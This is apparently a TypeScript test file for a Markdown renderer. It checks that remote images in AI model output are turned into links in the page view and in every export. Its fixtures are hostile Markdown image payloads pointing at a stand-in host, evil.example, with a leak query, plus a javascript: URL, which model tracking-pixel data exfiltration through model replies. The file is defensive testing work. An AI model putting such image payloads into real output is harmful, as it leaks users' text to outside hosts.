import fc from 'fast-check';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { markdownToDocument } from '../../engine/export/markdown-to-docx.ts';
import { markdownToHtmlDocument, markdownToSafeHtml } from '../../engine/export/markdown-to-html.ts';
import { markdownToPlainText } from '../../engine/export/markdown-to-plain-text.ts';
import { isRemoteImageUrl } from '../../engine/markdown/remote-images.ts';
import { renderMarkdown } from '../../src/features/markdown/render-markdown.ts';

// A remote image in model output would be fetched by every reader's browser (a tracking
// pixel, or text leaked through its URL): on the page and in every export it is a link.

const PIXEL = 'https://evil.example/pixel.png?leak=1';
const HOSTILE = [
  `![p](${PIXEL})`,
  `Intro ![p](${PIXEL} "title") outro`,
  `![p][ref]\n\n[ref]: ${PIXEL}`,
  `- item ![p](//evil.example/x.png)`,
  `> quote ![](${PIXEL})`,
  `| a |\n| - |\n| ![p](${PIXEL}) |`,
  `[![p](${PIXEL})](https://example.org)`,
];

const html = (markdown: string) => renderToStaticMarkup(<>{renderMarkdown(markdown)}</>);

describe('remote Markdown images become links', () => {
  it('on the page (the Markdown view of results, share pages and /history) and in the .html export: no <img>, a link to the address', () => {
    for (const markdown of HOSTILE) {
      for (const out of [html(markdown), markdownToSafeHtml(markdown), markdownToHtmlDocument(markdown, 't')]) {
        expect(out, markdown).not.toMatch(/<img/i);
        expect(out, markdown).toMatch(/<a [^>]*href="(https:)?\/\/evil\.example/);
      }
    }
    expect(html(`![a pixel](${PIXEL})`)).toContain('>a pixel</a>');
  });

  it('in the plain-text and .docx exports the alt text stays', () => {
    expect(markdownToPlainText(`See ![the chart](${PIXEL}).`)).toContain('See the chart.');
    // The .docx is built from the same tree: it has no image part to fetch, only the link's text.
    expect(JSON.stringify(markdownToDocument(`![the chart](${PIXEL})`, 'x'))).toContain('the chart');
  });

  it('property: whatever the alt text and address, no remote <img> comes out', () => {
    const address = fc.oneof(fc.webUrl(), fc.constantFrom('//evil.example/p.png', 'HTTPS://EVIL.EXAMPLE/p.png', ' https://evil.example/p.png'));
    fc.assert(
      fc.property(fc.string({ maxLength: 20 }), address, (alt, url) => {
        const markdown = `![${alt.replace(/[[\]\\]/g, '')}](<${url.trim()}>)`;
        expect(html(markdown)).not.toMatch(/<img[^>]+src="(https?:)?\/\//i);
        expect(markdownToSafeHtml(markdown)).not.toMatch(/<img[^>]+src="(https?:)?\/\//i);
      }),
      { numRuns: 200 },
    );
  });

  it('the site’s own relative images stay images; any scheme or //host counts as remote', () => {
    expect(markdownToSafeHtml('![logo](/logo.png)')).toContain('<img src="/logo.png"');
    for (const url of ['https://x.org/a.png', 'http://x.org', '//x.org/a', 'data:image/png;base64,AA', 'javascript:alert(1)']) expect(isRemoteImageUrl(url), url).toBe(true);
    for (const url of ['/a.png', 'a.png', '../a.png']) expect(isRemoteImageUrl(url), url).toBe(false);
  });
});
